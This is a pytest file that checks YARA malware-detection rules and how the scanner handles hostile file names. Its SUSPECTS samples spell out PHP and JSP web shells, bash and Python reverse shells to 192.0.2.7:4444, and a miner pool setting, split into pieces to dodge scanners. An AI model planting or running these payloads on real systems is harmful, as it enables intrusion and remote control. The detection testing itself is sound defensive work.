"""YARA: our rules on what they are about, and lines that a hostile file name makes."""

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.tooling.tools.recordings import FIXTURES, recording
from tooling.base import CodePlace, Examined, Job, ParsedFinding, Rejected, Report
from tooling.registry import get
from tooling.tools.yara import FOLDER, GROUPS

# In pieces, so that no scanner of this repository takes this file for one of them.
SUSPECTS = {
    "webshell_php_eval_of_request": "<?p" + "hp @ev" + "al(base64_decode($_" + "POST['x'])); ?>",
    "webshell_php_command_of_request": "<?p" + "hp sys" + "tem($_" + "GET['c']); ?>",
    "webshell_jsp_command_of_request": "<% Runtime.getRun"
    + "time().exec(request.getPara"
    + "meter(1)); %>",
    "reverse_shell_bash": "bash -" + "i >& /dev/" + "tcp/192.0.2.7/4444 0>&1",
    "reverse_shell_python": "socket.soc" + "ket(); os.du" + 'p2(3, 0); os.execl("/bin' + '/sh")',
    "cryptocurrency_miner_configuration": "stratum" + "+tcp://pool.example.org:3333 donate-level",
}
HARMLESS = (
    "<?php echo system_name($_GET['page']); evaluate($_POST);",
    "import socket\nsocket.socket().connect(('db', 5432))\n",
    "exec 3<>/dev/tcp/127.0.0.1/80",
    "#!/bin/sh\nset -e\n",
    "the stratum of the pool is deep",
)
needs_yara = pytest.mark.skipif(shutil.which("yara") is None, reason="needs yara")


def scan(target: Path, work: Path) -> list[object]:
    tool, job = get("yara"), Job("repository", str(target), work)
    command = ["yara", *tool.command(job).arguments]
    work.mkdir(exist_ok=True)
    for name in ("stdout", "stderr"):
        (work / name).touch()
    with (work / "stdout").open("wb") as out:
        subprocess.run(command, stdout=out, check=True)
    return list(tool.read(Report(work / "stdout", job, None, work / "stderr")))


@needs_yara
@pytest.mark.parametrize("rule", SUSPECTS)
def test_rule_matches_what_it_is_about(rule: str, tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.mkdir()
    (target / "suspect").write_text(SUSPECTS[rule], "utf-8")
    found = [r for r in scan(target, tmp_path / "run") if isinstance(r, ParsedFinding)]
    assert [f.rule_id for f in found] == [rule]
    assert found[0].place == CodePlace("suspect")
    assert found[0].severity in ("critical", "high")
    assert found[0].attack_ids
    assert found[0].evidence["strings"]


@needs_yara
def test_harmless_text_matches_nothing(tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.mkdir()
    for number, content in enumerate(HARMLESS):
        (target / f"{number}.txt").write_text(content, "utf-8")
    (target / "link").symlink_to("/etc/passwd")
    assert scan(target, tmp_path / "run") == [Examined("files", len(HARMLESS))]


@needs_yara
def test_line_break_in_a_name_is_rejected(tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.mkdir()
    (target / "a\neicar_test_file b").write_text("x", "utf-8")
    told = scan(target, tmp_path / "run")
    assert [type(record) for record in told] == [Rejected, Examined]


def test_every_rule_grades_itself() -> None:
    for group in GROUPS:
        text = (FOLDER / f"{group}.yar").read_text("utf-8")
        rules, words = text.count("\nrule ") + text.startswith("rule "), text.count("severity = ")
        assert rules == words > 0


def test_path_with_brackets_is_whole() -> None:
    places = {f.rule_id: f.place for f in recording("yara", "findings").findings()}
    assert places["eicar_test_file"] == CodePlace("mail [1].txt")


def test_rules_of_others_are_read() -> None:
    path = FIXTURES / "yara" / "imports" / "of_others.txt"
    first = next(r for r in get("yara").read(Report(path)) if isinstance(r, ParsedFinding))
    assert first.title == 'A web shell, "small"'
    assert (first.severity, first.tags) == ("medium", ("php",))
    assert first.evidence["string_count"] == 2
